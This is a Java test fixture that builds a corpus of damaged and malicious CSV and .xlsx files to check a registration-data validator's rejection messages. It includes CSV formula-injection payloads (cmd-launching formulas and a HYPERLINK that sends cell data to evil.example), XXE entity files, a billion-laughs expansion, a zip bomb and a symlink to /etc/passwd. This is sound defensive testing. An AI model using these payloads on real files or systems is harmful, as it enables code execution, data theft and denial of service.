package cn.xgz.recon.robustness;

import cn.xgz.recon.common.IdNumber;
import cn.xgz.recon.common.UsccCode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.crypt.Encryptor;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/**
 * Broken and hostile input files, generated (never committed as binaries): damaged encodings, binary data, absurd
 * sizes, malformed CSV, damaged and malicious .xlsx (zip bomb, external entities, entity expansion), formula
 * payloads. Each case says which exit code {@code validate} must give and which Chinese phrases its message must
 * contain. Names carry a source prefix, so the whole corpus can also be dropped into one nightly input folder.
 */
final class HostileCorpus {

    /** A value that must never surface anywhere: the content of the file the external entities point at. */
    static final String CANARY = "XXE-CANARY-4242";

    static final String REG_HEADER = "统一社会信用代码,主体名称,主体类型,行政区划代码,成立日期,登记状态";
    static final String[] REG_COLUMNS = REG_HEADER.split(",");

    /** CSV formula-injection payloads (OWASP), the last two with a leading tab and carriage return. */
    static final List<String> PAYLOADS = List.of("=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点我\")", "\t=1+2", "\r=1+2");

    /** How a case's file is made: {@code file} in the input folder, {@code outside} a folder beside it. */
    @FunctionalInterface
    interface Maker {
        void make(Path file, Path outside) throws Exception;
    }

    /**
     * One hostile input.
     *
     * @param exitCode what {@code validate} must exit with (4 when the file is rejected whole)
     * @param phrases what the console or rejects.csv must say (besides the file name)
     */
    record Hostile(String id, String kind, String fileName, Maker maker, int exitCode, List<String> phrases,
            String knownDefect, Outcome outcome) {

        Hostile(String id, String kind, String fileName, Maker maker, int exitCode, List<String> phrases) {
            this(id, kind, fileName, maker, exitCode, phrases, null, Outcome.WHOLE);
        }

        /**
         * Marks a message defect that is known and reported but not fixed here (its code is another helper's): the test
         * then asserts the defect still shows, so that fixing it fails the test until the mark is dropped.
         */
        Hostile knownDefect(String description) {
            return new Hostile(id, kind, fileName, maker, exitCode, phrases, description, outcome);
        }

        /** Exit 4 because reading stopped part-way (inputs.md), not because the file was rejected whole. */
        Hostile partWay() {
            return new Hostile(id, kind, fileName, maker, exitCode, phrases, knownDefect, Outcome.PART_WAY);
        }

        /** Exit 4 because lines of the file are damaged: those rows are rejected, the others read. */
        Hostile damagedRows() {
            return new Hostile(id, kind, fileName, maker, exitCode, phrases, knownDefect, Outcome.DAMAGED_ROWS);
        }

        @Override
        public String toString() {
            return id + " " + kind;
        }
    }

    /** Why a case exits 4: what validate's console line for the file says. */
    enum Outcome {
        WHOLE("整体拒绝："),
        PART_WAY("未能读完："),
        DAMAGED_ROWS("含损坏的行");

        final String console;

        Outcome(String console) {
            this.console = console;
        }
    }

    private HostileCorpus() {}

    static List<Hostile> cases() {
        List<Hostile> c = new ArrayList<>();
        // --- text that is not a usable CSV
        c.add(csv("h01", "空文件（0字节）", "registrations-h01-empty.csv", f -> bytes(f), 4, "文件为空"));
        c.add(csv("h02", "只有UTF-8 BOM", "registrations-h02-bom-only.csv", f -> bytes(f, 0xEF, 0xBB, 0xBF), 4, "文件为空"));
        c.add(csv("h03", "只有空行、空格和逗号", "registrations-h03-blank.csv", f -> text(f, "\n \n,,,\n\t\n"), 4, "文件为空"));
        c.add(csv("h04", "一百万个空行", "registrations-h04-million-blank-lines.csv", f -> text(f, "\n".repeat(1_000_000)), 4, "文件为空"));
        c.add(csv("h05", "只有表头", "registrations-h05-header-only.csv", f -> text(f, REG_HEADER + "\n"), 0));
        c.add(csv("h06", "随机二进制数据（扩展名.csv）", "registrations-h06-binary.csv", f -> random(f, 4096), 4, "二进制数据"));
        c.add(csv("h07", "PNG图片改名为.csv", "registrations-h07-png.csv", HostileCorpus::png, 4, "二进制数据"));
        c.add(csv("h08", "xlsx工作簿改名为.csv", "registrations-h08-zip.csv", (f, o) -> Files.write(f, validXlsx()), 4,
                "二进制数据"));
        c.add(csv("h09", "UTF-16LE（带BOM）", "registrations-h09-utf16le.csv",
                f -> withBom(f, new byte[] {(byte) 0xFF, (byte) 0xFE}, validCsv(1, 3), StandardCharsets.UTF_16LE), 4, "UTF-16"));
        c.add(csv("h10", "UTF-16BE（带BOM）", "registrations-h10-utf16be.csv",
                f -> withBom(f, new byte[] {(byte) 0xFE, (byte) 0xFF}, validCsv(1, 3), StandardCharsets.UTF_16BE), 4, "UTF-16"));
        c.add(csv("h11", "UTF-16LE（无BOM）", "registrations-h11-utf16-nobom.csv",
                f -> Files.write(f, validCsv(1, 3).getBytes(StandardCharsets.UTF_16LE)), 4, "二进制数据"));
        c.add(csv("h12", "UTF-8 BOM 后混入GBK行", "registrations-h12-bom-then-gbk.csv", f -> Files.write(f, concat(
                new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, validCsv(120, 2).getBytes(StandardCharsets.UTF_8),
                regRow(125, "福州市混合编码商行").getBytes(Charset.forName("GBK")))), 4, "混用了多种编码",
                "registrations-h12-bom-then-gbk.csv,4,").damagedRows());
        c.add(csv("h13", "UTF-8 与 GBK 混在同一文件（无BOM）", "registrations-h13-utf8-and-gbk.csv", f -> Files.write(f, concat(
                validCsv(130, 2).getBytes(StandardCharsets.UTF_8),
                regRow(135, "福州市混合编码商行").getBytes(Charset.forName("GBK")))), 4, "编码",
                "registrations-h13-utf8-and-gbk.csv,4,").damagedRows());
        c.add(csv("h14", "Windows-1252（西文）编码", "registrations-h14-cp1252.csv", f -> Files.write(f,
                ("uscc,name,entity_type,region_code,established_date,status\n" + uscc(140) + ",Caf\u00e9 M\u00fcller,企业,350102,2020-01-01,存续\n")
                        .getBytes(Charset.forName("windows-1252"))), 4, "编码无法识别"));
        c.add(csv("h15", "一行10 MB", "registrations-h15-10mb-line.csv", f -> text(f, REG_HEADER + "\n" + uscc(150) + ","
                + "A".repeat(10 << 20) + ",企业,350102,2020-01-01,存续\n" + regRow(151, "行后商行")), 4, "行长上限",
                "registrations-h15-10mb-line.csv,2,").damagedRows());
        c.add(csv("h16", "10,000列", "registrations-h16-10000-columns.csv", f -> {
            StringBuilder sb = new StringBuilder(REG_HEADER);
            for (int i = 6; i < 10_000; i++) {
                sb.append(",附加列").append(i);
            }
            text(f, sb + "\n" + validCsv(160, 1).split("\n")[1] + "\n");
        }, 4, "10000 列", "超过上限"));
        c.add(csv("h17", "分号分隔", "registrations-h17-semicolons.csv", f -> text(f, validCsv(170, 3).replace(',', ';')), 4,
                "缺少必填列"));
        c.add(csv("h18", "制表符分隔", "registrations-h18-tabs.csv", f -> text(f, validCsv(180, 3).replace(',', '\t')), 4,
                "缺少必填列"));
        c.add(csv("h19", "引号未闭合（第3行，后有500行）", "registrations-h19-open-quote.csv", f -> {
            StringBuilder sb = new StringBuilder(validCsv(190, 1));
            sb.append(uscc(191)).append(",\"未闭合的引号商行,企业,350102,2020-01-01,存续\n");
            for (int i = 0; i < 500; i++) {
                sb.append(regRow(200 + i, "其后商行" + i));
            }
            text(f, sb.toString());
        }, 4, "引号", "第3行", "共 501 行").partWay());
        c.add(csv("h20", "引号未闭合（最后一行）", "registrations-h20-open-quote-at-end.csv",
                f -> text(f, validCsv(710, 2) + uscc(713) + ",\"最后一行商行,企业,350102,2020-01-01,存续\n"), 4, "引号未闭合", "第4行")
                .partWay());
        c.add(csv("h21", "引号内换行超过200行", "registrations-h21-multiline-cell.csv", f -> text(f, validCsv(720, 1)
                + uscc(722) + ",\"" + "多行\n".repeat(300) + "\",企业,350102,2020-01-01,存续\n"), 4, "跨越超过 200 行", "第3行").partWay());
        c.add(csv("h22", "表头重复列", "registrations-h22-duplicate-header.csv",
                f -> text(f, REG_HEADER + ",主体名称\n" + uscc(730) + ",甲商行,企业,350102,2020-01-01,存续,乙商行\n"), 4,
                "“主体名称”列出现了不止一次"));
        c.add(csv("h23", "缺少必填列", "registrations-h23-missing-column.csv",
                f -> text(f, "统一社会信用代码,主体类型,行政区划代码,成立日期,登记状态\n" + uscc(740) + ",企业,350102,2020-01-01,存续\n"), 4,
                "缺少必填列", "主体名称"));
        c.add(csv("h24", "行的列数参差不齐", "registrations-h24-ragged.csv", f -> text(f, REG_HEADER + "\n" + uscc(750)
                + ",短行商行\n" + regRow(751, "正常商行") + uscc(752) + ",长行商行,企业,350102,2020-01-01,存续,多余1,多余2\n"), 0,
                "registrations-h24-ragged.csv,2,", "必填项为空"));
        c.add(csv("h25", "单元格40,000字符", "registrations-h25-huge-cell.csv",
                f -> text(f, REG_HEADER + "\n" + uscc(760) + ",\"" + "大".repeat(40_000) + "\",企业,350102,2020-01-01,存续\n"), 4,
                "32767 个字符", "registrations-h25-huge-cell.csv,2,").damagedRows());
        c.add(csv("h26", "只用CR换行（旧Mac）", "registrations-h26-cr-only.csv", f -> text(f, validCsv(770, 3).replace('\n', '\r')),
                0));
        c.add(csv("h27", "名称中的公式注入载荷", "registrations-h27-formula-names.csv", f -> {
            StringBuilder sb = new StringBuilder(REG_HEADER + "\n");
            for (int i = 0; i < PAYLOADS.size(); i++) {
                sb.append(uscc(780 + i)).append(',').append(quote(PAYLOADS.get(i))).append(",企业,350102,2020-01-01,存续\n");
            }
            text(f, sb.toString());
        }, 0));
        c.add(csv("h28", "代码列中的公式注入载荷", "registrations-h28-formula-keys.csv", f -> {
            StringBuilder sb = new StringBuilder(REG_HEADER + "\n");
            for (int i = 0; i < PAYLOADS.size(); i++) {
                sb.append(quote(PAYLOADS.get(i))).append(",载荷商行").append(i).append(",企业,350102,2020-01-01,存续\n");
            }
            text(f, sb.toString());
        }, 0, "'=CMD|", "'@SUM", "'+CMD", "'-2+3"));
        c.add(new Hostile("h29", "指向/etc/passwd的符号链接", "registrations-h29-symlink.csv",
                (f, o) -> Files.createSymbolicLink(f, Path.of("/etc/passwd")), 4, List.of("缺少必填列")));
        c.add(new Hostile("h30", "名为.csv的目录", "registrations-h30-directory.csv", (f, o) -> Files.createDirectories(f), 0,
                List.of("缺少数据源：经营主体登记信息")));
        c.add(csv("h31", "身份证号、手机号格式错误", "riders-h31-bad-ids.csv", f -> text(f,
                "平台,骑手编号,姓名,身份证号,手机号,配送站点编号,站点行政区划代码,政治面貌\n"
                        + "美团,H31-1,测试甲," + badId() + ",1381234567,MT-H31,350102,群众\n"
                        + "美团,H31-2,测试乙,35010219900307123,13812345678,MT-H31,350102,群众\n"), 0,
                "riders-h31-bad-ids.csv,2,", "身份证号"));
        c.add(new Hostile("h32", "文件名含逗号和引号", "registrations-h32-a,\"b\".csv", (f, o) -> bytes(f), 4, List.of("文件为空")));
        // --- .xlsx that is damaged or malicious
        c.add(xlsx("h33", "xlsx截断一半", "registrations-h33-truncated.xlsx", f -> {
            byte[] b = validXlsx();
            Files.write(f, java.util.Arrays.copyOf(b, b.length / 2));
        }, 4, "xlsx"));
        c.add(xlsx("h34", "xlsx中间字节被破坏", "registrations-h34-corrupted.xlsx", f -> {
            byte[] b = validXlsx();
            Random r = new Random(34);
            for (int i = b.length / 3; i < b.length / 3 + 200; i++) {
                b[i] = (byte) r.nextInt(256);
            }
            Files.write(f, b);
        }, 4, "已损坏"));
        c.add(xlsx("h35", "压缩炸弹（工作表解压后50 MB）", "registrations-h35-zip-bomb.xlsx", HostileCorpus::zipBomb, 4, "压缩炸弹"));
        c.add(new Hostile("h36", "工作表XML含外部实体（XXE）", "registrations-h36-xxe-sheet.xlsx", (f, o) -> {
            Path secret = canary(o);
            Map<String, String> parts = parts(sheet(row(1, REG_COLUMNS), row(2, uscc(360), "&xxe;", "企业", "350102",
                    "2020-01-01", "存续")));
            parts.put("xl/worksheets/sheet1.xml", doctype("worksheet", "<!ENTITY xxe SYSTEM \"" + secret.toUri() + "\">")
                    + parts.get("xl/worksheets/sheet1.xml").substring(XML_DECL.length()));
            Files.write(f, zip(parts));
        }, 4, List.of("外部实体")));
        c.add(new Hostile("h37", "共享字符串XML含外部实体", "registrations-h37-xxe-shared-strings.xlsx", (f, o) -> {
            Path secret = canary(o);
            Map<String, String> parts = parts(sheet(row(1, REG_COLUMNS), "<row r=\"2\"><c r=\"A2\" t=\"s\"><v>0</v></c></row>"));
            parts.put("xl/sharedStrings.xml", doctype("sst", "<!ENTITY xxe SYSTEM \"" + secret.toUri() + "\">")
                    + "<sst xmlns=\"" + NS + "\" count=\"1\" uniqueCount=\"1\"><si><t>&xxe;</t></si></sst>");
            Files.write(f, zip(parts));
        }, 4, List.of("外部实体")));
        c.add(new Hostile("h38", "workbook.xml含外部实体", "registrations-h38-xxe-workbook.xlsx", (f, o) -> {
            Path secret = canary(o);
            Map<String, String> parts = parts(sheet(row(1, REG_COLUMNS)));
            parts.put("xl/workbook.xml", doctype("workbook", "<!ENTITY xxe SYSTEM \"" + secret.toUri() + "\">")
                    + parts.get("xl/workbook.xml").substring(XML_DECL.length()).replace("Sheet1", "&xxe;"));
            Files.write(f, zip(parts));
        }, 4, List.of("xlsx")));
        c.add(xlsx("h39", "实体膨胀（billion laughs）", "registrations-h39-billion-laughs.xlsx", f -> {
            StringBuilder ents = new StringBuilder("<!ENTITY l0 \"lol\">");
            for (int i = 1; i <= 9; i++) {
                ents.append("<!ENTITY l").append(i).append(" \"").append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
            }
            Map<String, String> parts = parts(sheet(row(1, REG_COLUMNS), row(2, uscc(390), "&l9;", "企业", "350102",
                    "2020-01-01", "存续")));
            parts.put("xl/worksheets/sheet1.xml", doctype("worksheet", ents.toString())
                    + parts.get("xl/worksheets/sheet1.xml").substring(XML_DECL.length()));
            Files.write(f, zip(parts));
        }, 4, "实体"));
        c.add(xlsx("h40", "旧版.xls改名为.xlsx", "registrations-h40-xls.xlsx", f -> {
            try (HSSFWorkbook wb = new HSSFWorkbook(); OutputStream out = Files.newOutputStream(f)) {
                wb.createSheet("Sheet1").createRow(0).createCell(0).setCellValue("统一社会信用代码");
                wb.write(out);
            }
        }, 4, "旧版Excel"));
        c.add(xlsx("h41", "CSV文本改名为.xlsx", "registrations-h41-csv.xlsx", f -> text(f, validCsv(410, 2)), 4,
                "不是有效的.xlsx"));
        c.add(xlsx("h42", "空的.xlsx（0字节）", "registrations-h42-empty.xlsx", f -> bytes(f), 4, "文件为空"));
        c.add(xlsx("h43", "空工作表", "registrations-h43-empty-sheet.xlsx", f -> Files.write(f, zip(parts(sheet()))), 4,
                "工作表为空"));
        c.add(xlsx("h44", "单元格位于XFD列（第16384列）", "registrations-h44-far-column.xlsx", f -> Files.write(f, zip(parts(sheet(
                row(1, REG_COLUMNS), "<row r=\"2\"><c r=\"XFD2\" t=\"inlineStr\"><is><t>远</t></is></c></row>")))), 4,
                "列数超过上限", "registrations-h44-far-column.xlsx,2,").damagedRows());
        c.add(xlsx("h45", "共享字符串索引越界", "registrations-h45-bad-shared-index.xlsx", f -> Files.write(f, zip(parts(sheet(
                row(1, REG_COLUMNS), "<row r=\"2\"><c r=\"A2\" t=\"s\"><v>999999</v></c></row>")))), 4,
                "共享字符串索引无效", "registrations-h45-bad-shared-index.xlsx,2,").damagedRows());
        c.add(xlsx("h46", "单元格内嵌套20万层元素", "registrations-h46-deep-nesting.xlsx", f -> Files.write(f, zip(parts(sheet(
                row(1, REG_COLUMNS), "<row r=\"2\"><c r=\"A2\" t=\"inlineStr\"><is>" + "<x>".repeat(200_000)
                        + "</x>".repeat(200_000) + "</is></c></row>")))), 4, "xlsx"));
        c.add(xlsx("h47", "公式单元格与公式注入载荷", "registrations-h47-formulas.xlsx", f -> {
            StringBuilder rows = new StringBuilder(row(1, REG_COLUMNS));
            for (int i = 0; i < PAYLOADS.size(); i++) {
                int r = i + 2;
                rows.append("<row r=\"").append(r).append("\">")
                        .append(cell("A" + r, uscc(470 + i)))
                        .append("<c r=\"B").append(r).append("\" t=\"str\"><f>").append(xml(PAYLOADS.get(i).trim()))
                        .append("</f><v>").append(xml(PAYLOADS.get(i))).append("</v></c>")
                        .append(cell("C" + r, "企业")).append(cell("D" + r, "350102")).append(cell("E" + r, "2020-01-01"))
                        .append(cell("F" + r, "存续")).append("</row>");
            }
            Files.write(f, zip(parts(sheet(rows.toString()))));
        }, 0));
        c.add(xlsx("h48", "身份证号被存为数值", "riders-h48-numeric-ids.xlsx", f -> Files.write(f, zip(parts(sheet(
                row(1, "平台", "骑手编号", "姓名", "身份证号", "配送站点编号", "站点行政区划代码", "政治面貌"),
                "<row r=\"2\">" + cell("A2", "美团") + cell("B2", "H48-1") + cell("C2", "测试丙")
                        + "<c r=\"D2\"><v>3.50102199003071E+17</v></c>" + cell("E2", "MT-H48") + cell("F2", "350102")
                        + cell("G2", "群众") + "</row>")))), 0, "身份证号被Excel保存为数值"));
        c.add(xlsx("h49", "加密（有密码）的.xlsx", "registrations-h49-encrypted.xlsx", HostileCorpus::encrypted, 4, "加密"));
        c.add(xlsx("h50", "合法的最小.xlsx（对照）", "registrations-h50-valid.xlsx", f -> Files.write(f, validXlsx()), 0));
        return c;
    }

    // ---------------------------------------------------------------- CSV helpers

    private interface FileMaker {
        void make(Path file) throws Exception;
    }

    private static Hostile csv(String id, String kind, String name, FileMaker m, int exit, String... phrases) {
        return new Hostile(id, kind, name, (f, o) -> m.make(f), exit, List.of(phrases));
    }

    private static Hostile csv(String id, String kind, String name, Maker m, int exit, String... phrases) {
        return new Hostile(id, kind, name, m, exit, List.of(phrases));
    }

    private static Hostile xlsx(String id, String kind, String name, FileMaker m, int exit, String... phrases) {
        return new Hostile(id, kind, name, (f, o) -> m.make(f), exit, List.of(phrases));
    }

    private static Hostile xlsx(String id, String kind, String name, Maker m, int exit, String... phrases) {
        return new Hostile(id, kind, name, m, exit, List.of(phrases));
    }

    /** A valid synthetic 统一社会信用代码 (Fuzhou 鼓楼区, check character computed). */
    static String uscc(int n) {
        String first17 = "91350102MA" + String.format("%07d", n);
        return first17 + UsccCode.checkChar(first17);
    }

    static String regRow(int n, String name) {
        return uscc(n) + "," + name + ",企业,350102,2020-01-01,存续\n";
    }

    static String validCsv(int first, int rows) {
        StringBuilder sb = new StringBuilder(REG_HEADER + "\n");
        for (int i = 0; i < rows; i++) {
            sb.append(regRow(first + i, "福州测试" + (first + i) + "商行"));
        }
        return sb.toString();
    }

    /** An ID number whose check digit is wrong. */
    static String badId() {
        String first17 = "35010219900307123";
        char good = IdNumber.checkChar(first17);
        return first17 + (good == '0' ? '1' : '0');
    }

    static String quote(String v) {
        return "\"" + v.replace("\"", "\"\"") + "\"";
    }

    private static void text(Path f, String s) throws IOException {
        Files.writeString(f, s, StandardCharsets.UTF_8);
    }

    private static void bytes(Path f, int... b) throws IOException {
        byte[] a = new byte[b.length];
        for (int i = 0; i < b.length; i++) {
            a[i] = (byte) b[i];
        }
        Files.write(f, a);
    }

    private static void random(Path f, int n) throws IOException {
        byte[] b = new byte[n];
        new Random(6).nextBytes(b);
        b[10] = 0;
        Files.write(f, b);
    }

    private static void png(Path f, Path outside) throws IOException {
        byte[] head = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R', 0, 0, 0, 1, 0, 0,
            0, 1, 8, 2, 0, 0, 0};
        Files.write(f, head);
    }

    private static void withBom(Path f, byte[] bom, String text, Charset cs) throws IOException {
        Files.write(f, concat(bom, text.getBytes(cs)));
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    // ---------------------------------------------------------------- XLSX helpers (hand-made parts)

    static final String NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    static final String XML_DECL = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";

    private static final String PKG = "http://schemas.openxmlformats.org/package/2006/";
    private static final String REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    private static final String SML = "application/vnd.openxmlformats-officedocument.spreadsheetml.";

    static Map<String, String> parts(String sheetXml) {
        Map<String, String> p = new LinkedHashMap<>();
        p.put("[Content_Types].xml", XML_DECL + "<Types xmlns=\"" + PKG + "content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                + "<Override PartName=\"/xl/workbook.xml\" ContentType=\"" + SML + "sheet.main+xml\"/>"
                + "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"" + SML + "worksheet+xml\"/>"
                + "<Override PartName=\"/xl/sharedStrings.xml\" ContentType=\"" + SML + "sharedStrings+xml\"/>"
                + "</Types>");
        p.put("_rels/.rels", XML_DECL + "<Relationships xmlns=\"" + PKG + "relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"" + REL + "/officeDocument\" Target=\"xl/workbook.xml\"/>"
                + "</Relationships>");
        p.put("xl/workbook.xml", XML_DECL + "<workbook xmlns=\"" + NS + "\" xmlns:r=\"" + REL + "\">"
                + "<sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>");
        p.put("xl/_rels/workbook.xml.rels", XML_DECL + "<Relationships xmlns=\"" + PKG + "relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"" + REL + "/worksheet\" Target=\"worksheets/sheet1.xml\"/>"
                + "<Relationship Id=\"rId2\" Type=\"" + REL + "/sharedStrings\" Target=\"sharedStrings.xml\"/>"
                + "</Relationships>");
        p.put("xl/sharedStrings.xml", XML_DECL + "<sst xmlns=\"" + NS + "\" count=\"1\" uniqueCount=\"1\"><si><t>未用</t></si></sst>");
        p.put("xl/worksheets/sheet1.xml", sheetXml);
        return p;
    }

    static String sheet(String... rows) {
        return XML_DECL + "<worksheet xmlns=\"" + NS + "\"><sheetData>" + String.join("", rows) + "</sheetData></worksheet>";
    }

    static String row(int r, String... values) {
        StringBuilder sb = new StringBuilder("<row r=\"").append(r).append("\">");
        for (int i = 0; i < values.length; i++) {
            sb.append(cell(columnName(i) + r, values[i]));
        }
        return sb.append("</row>").toString();
    }

    /** An inline-string cell; values starting with {@code &} are entity references and written as they are. */
    static String cell(String ref, String value) {
        String v = value.startsWith("&") ? value : xml(value);
        return "<c r=\"" + ref + "\" t=\"inlineStr\"><is><t>" + v + "</t></is></c>";
    }

    private static String columnName(int i) {
        return String.valueOf((char) ('A' + i));
    }

    static String xml(String s) {
        StringBuilder sb = new StringBuilder();
        for (char ch : s.toCharArray()) {
            switch (ch) {
                case '<' -> sb.append("&lt;");
                case '>' -> sb.append("&gt;");
                case '&' -> sb.append("&amp;");
                case '"' -> sb.append("&quot;");
                case '\t' -> sb.append("&#9;");
                case '\r' -> sb.append("&#13;");
                default -> sb.append(ch);
            }
        }
        return sb.toString();
    }

    private static String doctype(String root, String declarations) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE " + root + " [" + declarations + "]>";
    }

    static byte[] zip(Map<String, String> parts) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, String> e : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        }
        return bytes.toByteArray();
    }

    /** A readable one-row workbook: the positive control that the hand-made parts are a valid .xlsx. */
    static byte[] validXlsx() throws IOException {
        return zip(parts(sheet(row(1, REG_COLUMNS), row(2, uscc(500), "福州最小工作簿商行", "企业", "350102", "2020-01-01", "存续"))));
    }

    private static Path canary(Path outside) throws IOException {
        Files.createDirectories(outside);
        Path secret = outside.resolve("secret.txt");
        Files.writeString(secret, CANARY);
        return secret;
    }

    /** sheet1.xml inflates to 50 MB of white space from some 50 KB: a ratio POI's zip reader refuses. */
    private static void zipBomb(Path f) throws IOException {
        Map<String, String> parts = parts(sheet(row(1, REG_COLUMNS)));
        String sheet = parts.remove("xl/worksheets/sheet1.xml");
        try (ZipOutputStream zip = new ZipOutputStream(Files.newOutputStream(f))) {
            for (Map.Entry<String, String> e : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
            zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
            int split = sheet.indexOf("</sheetData>");
            zip.write(sheet.substring(0, split).getBytes(StandardCharsets.UTF_8));
            byte[] blanks = " ".repeat(1 << 20).getBytes(StandardCharsets.US_ASCII);
            for (int i = 0; i < 50; i++) {
                zip.write(blanks);
            }
            zip.write(sheet.substring(split).getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
        }
    }

    /** The valid workbook encrypted with a password (an OLE2 container, as Excel saves it). */
    private static void encrypted(Path f) throws Exception {
        try (POIFSFileSystem fs = new POIFSFileSystem()) {
            EncryptionInfo info = new EncryptionInfo(EncryptionMode.agile);
            Encryptor enc = info.getEncryptor();
            enc.confirmPassword("口令");
            try (OPCPackage opc = OPCPackage.open(new java.io.ByteArrayInputStream(validXlsx()));
                    OutputStream os = enc.getDataStream(fs)) {
                opc.save(os);
            }
            try (OutputStream out = Files.newOutputStream(f)) {
                fs.writeFilesystem(out);
            }
        }
    }
}
